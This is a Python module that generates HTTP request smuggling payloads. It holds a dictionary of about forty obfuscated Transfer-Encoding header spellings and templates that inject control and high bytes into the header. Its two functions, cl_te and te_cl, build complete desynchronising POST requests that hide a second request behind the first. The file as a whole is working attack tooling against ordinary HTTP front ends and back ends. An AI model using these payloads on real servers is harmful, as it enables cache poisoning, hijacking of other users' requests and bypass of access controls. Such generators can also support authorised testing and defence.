"""Requests that hide another one: in which spellings, and behind which framings."""

__all__ = ["NAMED", "ODD", "SHAPES", "cl_te", "te_cl"]

NAMED = {
    "nameprefix": b" Transfer-Encoding: chunked",
    "tab": b"Transfer-Encoding:\tchunked",
    "tab before the colon": b"Transfer-Encoding\t:\tchunked",
    "a space in the name": b"Transfer Encoding: chunked",
    "underscore": b"Transfer_Encoding: chunked",
    "smashed": b"Transfer Encoding:chunked",
    "space before the colon": b"Transfer-Encoding : chunked",
    "two spaces": b"Transfer-Encoding:  chunked",
    "vertical tab": b"Transfer-Encoding:\x0bchunked",
    "comma cow": b"Transfer-Encoding: chunked, cow",
    "cow comma": b"Transfer-Encoding: cow, chunked",
    "content encoding": b"Content-Encoding: chunked",
    "line wrapped": b"Transfer-Encoding:\n chunked",
    "line wrapped by CRLF": b"Transfer-Encoding:\r\n chunked",
    "quoted": b'Transfer-Encoding: "chunked"',
    "in apostrophes": b"Transfer-Encoding: 'chunked'",
    "lazy grep": b"Transfer-Encoding: chunk",
    "mixed case": b"TrAnSFer-EnCODinG: cHuNkeD",
    "upper case": b"TRANSFER-ENCODING: CHUNKED",
    "CR behind": b"Transfer-Encoding: chunked\r",
    "tab behind": b"Transfer-Encoding: chunked\t",
    "two headers": b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    "twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "twice in one": b"Transfer-Encoding: chunked, chunked",
    "identity": b"Transfer-Encoding: identity",
    "identity, chunked": b"Transfer-Encoding: identity, chunked",
    "empty": b"Transfer-Encoding:",
    "empty first": b"Transfer-Encoding:\r\nTransfer-Encoding: chunked",
    "a comma": b"Transfer-Encoding: , chunked",
    "CR in the name": b"Transfer\r-Encoding: chunked",
    "nested": b"Transfer-Encoding: cow chunked bar",
    "0xff": b"Transfer-Encoding:\xffchunked",
    "accent": b"Transfer-Encoding: ch\x96nked",
    "accent in the name": b"Transf\x82r-Encoding: chunked",
    "behind CR": b"X:X\rTransfer-Encoding: chunked",
    "behind LF": b"X:X\nTransfer-Encoding: chunked",
    "with a parameter": b"Transfer-Encoding: chunked;q=1",
}
ODD = [*range(0x01, 0x20), *range(0x7F, 0x100)]
SHAPES = (
    b"Transfer-Encoding:%cchunked",
    b"Transfer-Encoding%c: chunked",
    b"%cTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked%c",
    b"Transfer-Encoding: chunked\r\n%cX: y",
)


def cl_te(target: bytes, spelling: bytes, hidden: bytes) -> bytes:
    """All of it is the body by Content-Length; by chunks it ends before the hidden request."""
    body = b"0\r\n\r\n" + hidden
    head = b"POST %b HTTP/1.1\r\nHost: a\r\n%b\r\nContent-Length: %d\r\n\r\n"
    return head % (target, spelling, len(body)) + body


def te_cl(target: bytes, spelling: bytes, hidden: bytes) -> bytes:
    """By chunks all of it is the body; by Content-Length only the first line."""
    size = b"%x\r\n" % len(hidden)
    head = b"POST %b HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n%b\r\n\r\n"
    return head % (target, len(size), spelling) + size + hidden + b"\r\n0\r\n\r\n"
